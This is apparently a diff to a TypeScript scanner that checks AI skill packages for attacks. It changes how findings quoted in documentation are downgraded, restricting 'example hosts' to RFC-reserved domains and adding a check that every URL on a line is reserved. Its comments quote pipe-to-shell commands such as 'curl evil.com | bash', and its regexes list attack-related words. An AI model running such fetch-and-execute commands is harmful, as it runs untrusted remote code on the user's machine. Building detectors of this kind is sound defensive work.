@@ -7,7 +7,7 @@ import { codeRanges, inRanges } from './packs.js';
 import type { SkillContext } from '../core/rule.js';
 
 /** Heading words of sections that describe attacks rather than instruct (in this heading or an enclosing one). */
-const CATALOGUE_HEADING = /\b(?:attacks?|attackers?|exploit(?:s|ation)?|exfiltration|vulnerab\w*|malicious|dangerous|detect(?:ion|ing|s)?|red flags?|indicators?|iocs?|threats?|payloads?|anti-?patterns?|techniques|what to (?:look|watch) for|examples? of (?:bad|unsafe|insecure)|unsafe|insecure|never do|don'?t do|bad (?:examples?|patterns?|practices?)|risky patterns?|suspicious|forensics?|injections?|obfuscation|smuggling|phishing|malware|backdoors?)\b/i;
+const CATALOGUE_HEADING = /\b(?:attacks?|attackers?|exploit(?:s|ation)?|exfiltration|vulnerab\w*|malicious|dangerous|detect(?:ion|ing|s)?|red flags?|indicators?|iocs?|threats?|payloads?|anti-?patterns?|techniques|what to (?:look|watch) for|examples? of (?:bad|unsafe|insecure)|unsafe|insecure|never do|don'?t do|bad (?:examples?|patterns?|practices?)|risky patterns?|suspicious|forensics?|injections?|obfuscation|smuggling|phishing|malware|backdoors?|(?:protects?|protection|defends?|defen[cs]es?|guards?)[ \t]+against|mitigations?)\b/i;
 /** The sentence right before a fenced block that says what follows is an attack. */
 const CATALOGUE_LEAD = /\b(?:attackers?|adversar(?:y|ies)|malicious|exploit\w*|vulnerable|insecure|unsafe|dangerous|would (?:run|execute|send)|flags|detects?)\b/i;
 
@@ -74,11 +74,24 @@ export function inCatalogue(text: string, offset: number): boolean {
 }
 
 /**
- * Hosts that only documentation uses: the reserved example domains and top-level domains (RFC 2606, RFC 6761:
- * example.com/.net/.org, *.example, *.test, *.invalid), the documentation address blocks (RFC 5737), and the
- * placeholder attacker hosts security writing uses (attacker.com, evil.com, evil.example, malicious.example).
+ * Hosts reserved for documentation, from the standards that reserve them and nothing else: the example domains
+ * example.com/.net/.org and the top-level domains .example, .test, .invalid (RFC 2606, RFC 6761), localhost and
+ * *.localhost (RFC 6761: the machine itself), and the documentation address blocks 192.0.2.0/24, 198.51.100.0/24,
+ * 203.0.113.0/24 (RFC 5737). None of them reaches a third party, so nothing sent there leaves for an attacker.
  */
-export const EXAMPLE_HOST = /(?:^|[^A-Za-z0-9.-])(?:(?:[a-z0-9-]+\.)*(?:example\.(?:com|net|org)|[a-z0-9-]+\.(?:example|test|invalid))|(?:[a-z0-9-]+\.)*(?:attacker|evil|malicious|badguy|hacker|exfil)(?:-[a-z0-9-]+)?\.(?:com|net|org|io|xyz|site)|(?:192\.0\.2|198\.51\.100|203\.0\.113)\.[0-9]{1,3})(?![A-Za-z0-9-])/i;
+export const EXAMPLE_HOST = /(?:^|[^A-Za-z0-9.-])(?:(?:[a-z0-9-]+\.)*(?:example\.(?:com|net|org)|[a-z0-9-]+\.(?:example|test|invalid|localhost)|localhost)|(?:192\.0\.2|198\.51\.100|203\.0\.113)\.[0-9]{1,3})(?![A-Za-z0-9-])/i;
+
+/** Hosts of the URLs on a line (scheme://[user@]host). */
+const URL_HOST = /\b[a-z][a-z0-9+.-]*:\/\/(?:[^\s/@"'`<>]*@)?([A-Za-z0-9.-]+|\[[0-9a-f:]+\])/gi;
+
+/** Whether `lines` name a documentation-only host and every URL on them goes to one (a real host next to an
+ *  example one keeps the finding). */
+export function onlyExampleHosts(lines: string): boolean {
+  if (!EXAMPLE_HOST.test(lines)) return false;
+  URL_HOST.lastIndex = 0;
+  for (let m = URL_HOST.exec(lines); m; m = URL_HOST.exec(lines)) if (!EXAMPLE_HOST.test(` ${m[1]!}`)) return false;
+  return true;
+}
 
 /** Documentation files of a skill package (markdown other than the skill file itself; a .txt asset is a payload carrier, not documentation). */
 const DOC_FILE = /\.(?:md|markdown|mdx|rst)$/i;
@@ -94,17 +107,17 @@ function linesOf(text: string, start: number, end: number): string {
 /**
  * `ctx` with a report() that lowers findings in a quoted attack catalogue to low confidence, and findings in a
  * documentation file of the package (README.md, INSTALL.md, references/*.md — not the skill file, not scripts or
- * configs) whose matched lines name a documentation-only host (EXAMPLE_HOST: `curl evil.com | bash` quoted in a
- * security tool's README) to low confidence too, grouped: the first per file is reported, later ones are not
- * repeated. The skill file, scripts and JSON keep full confidence: the labeled attack sets write their payloads
- * there with the same example hosts, and a real attack needs a real host only in what runs.
+ * configs) whose matched lines go only to documentation-only hosts (EXAMPLE_HOST: `curl https://example.com/x | sh`
+ * quoted in a README) to low confidence too, grouped: the first per file is reported, later ones are not repeated.
+ * Documentation shows a command; the skill file is what the agent is told to do and scripts and configs are what
+ * runs, where a reserved host is a placeholder the agent or the user fills in, so the command keeps its weight.
  */
 export function catalogueAware(ctx: SkillContext): SkillContext {
   const wrapped: SkillContext = { ...ctx };
   const documented = new Set<string>();
   wrapped.report = (r) => {
     const text = r.source?.normalized ?? (r.file === undefined ? ctx.skill.source?.normalized : undefined);
-    if (text !== undefined && r.file !== undefined && DOC_FILE.test(r.file) && r.offset !== undefined && EXAMPLE_HOST.test(linesOf(text, r.offset, r.endOffset ?? r.offset))) {
+    if (text !== undefined && r.file !== undefined && DOC_FILE.test(r.file) && r.offset !== undefined && onlyExampleHosts(linesOf(text, r.offset, r.endOffset ?? r.offset))) {
       if (documented.has(r.file)) return;
       documented.add(r.file);
       ctx.report({ ...r, confidence: 'low', suffix: `${r.suffix ?? ''} (documentation quoting the attack with an example host: low confidence; later quotes in this file are not repeated)` });
